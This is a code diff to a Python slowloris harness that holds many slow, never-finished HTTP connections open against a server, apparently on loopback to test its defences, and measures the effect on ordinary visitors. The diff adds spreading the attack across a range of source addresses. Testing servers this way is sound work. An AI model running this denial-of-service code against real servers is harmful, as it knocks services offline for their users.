@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """A slow-client ("slowloris") attack on a running server, and what it does to everyone else.
 
-SLOW connections from one source address (ATTACKER, a loopback address such as 127.0.0.2)
-each send a request line, then one header line every DRIP seconds and never finish. Meanwhile
+SLOW connections from one or more source addresses (ATTACKER: a loopback address such as
+127.0.0.2, or a range such as 127.0.0.2-21, the connections spread over them) each send a request line, then one header line every DRIP seconds and never finish. Meanwhile
 ordinary searches from another source address (VISITOR) are timed. Prints one JSON line: the
 visitors' p50/p99/max latency and errors, and what became of the slow connections (refused
 with 429, closed by the server, still open at the end).
@@ -20,10 +20,19 @@ import threading
 import time
 
 
-def slow_connection(args, outcome, lock):
+def addresses(text):
+    """127.0.0.2 -> [127.0.0.2]; 127.0.0.2-21 -> [127.0.0.2, ..., 127.0.0.21]."""
+    if "-" not in text:
+        return [text]
+    first, last = text.split("-")
+    prefix, start = first.rsplit(".", 1)
+    return [f"{prefix}.{n}" for n in range(int(start), int(last) + 1)]
+
+
+def slow_connection(args, source, outcome, lock):
     try:
         sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        sock.bind((args.attacker, 0))
+        sock.bind((source, 0))
         sock.settimeout(args.seconds + 10)
         sock.connect((args.host, args.port))
         sock.sendall(b"GET /api/search?q=lege HTTP/1.1\r\nHost: x\r\n")
@@ -63,7 +72,7 @@ def visitor(args, latencies, errors, stop):
     while not stop.is_set():
         started = time.monotonic()
         try:
-            sock = socket.create_connection((args.host, args.port), timeout=10,
+            sock = socket.create_connection((args.host, args.port), timeout=args.visitor_timeout,
                                             source_address=(args.visitor, 0))
             sock.sendall(b"GET /api/search?q=lege HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
             data = b""
@@ -79,7 +88,7 @@ def visitor(args, latencies, errors, stop):
                 latencies.append(time.monotonic() - started)
         except OSError as error:
             errors.append(str(error))
-        time.sleep(0.05)
+        time.sleep(args.pause)
 
 
 def main():
@@ -89,20 +98,28 @@ def main():
     parser.add_argument("--slow", type=int, default=200, help="slow connections")
     parser.add_argument("--drip", type=float, default=3.0, help="seconds between header lines")
     parser.add_argument("--seconds", type=float, default=20.0, help="length of the attack")
-    parser.add_argument("--attacker", default="127.0.0.2", help="the slow connections' source")
+    parser.add_argument("--attacker", default="127.0.0.2",
+                        help="the slow connections' source address, or a range a.b.c.N-M")
     parser.add_argument("--visitor", default="127.0.0.3", help="the ordinary searches' source")
+    parser.add_argument("--visitors", type=int, default=4, help="visitor threads")
+    parser.add_argument("--pause", type=float, default=0.05,
+                        help="seconds each visitor waits between searches")
+    parser.add_argument("--visitor-timeout", type=float, default=10.0,
+                        help="seconds a visitor waits for an answer before counting an error")
     args = parser.parse_args()
 
     outcome = {"refused_429": 0, "closed_by_server": 0, "open_at_end": 0, "connect_failed": 0}
     lock = threading.Lock()
-    slow = [threading.Thread(target=slow_connection, args=(args, outcome, lock))
-            for _ in range(args.slow)]
+    sources = addresses(args.attacker)
+    slow = [threading.Thread(target=slow_connection,
+                             args=(args, sources[i % len(sources)], outcome, lock))
+            for i in range(args.slow)]
     for thread in slow:
         thread.start()
     time.sleep(1.0)  # let the attack take hold
     latencies, errors, stop = [], [], threading.Event()
     visitors = [threading.Thread(target=visitor, args=(args, latencies, errors, stop))
-                for _ in range(4)]
+                for _ in range(args.visitors)]
     for thread in visitors:
         thread.start()
     time.sleep(max(1.0, args.seconds - 2))
@@ -112,6 +129,7 @@ def main():
     latencies.sort()
     report = {
         "slow_connections": args.slow,
+        "attacker_addresses": len(sources),
         "drip_seconds": args.drip,
         "visitor_requests": len(latencies) + len(errors),
         "visitor_errors": len(errors),
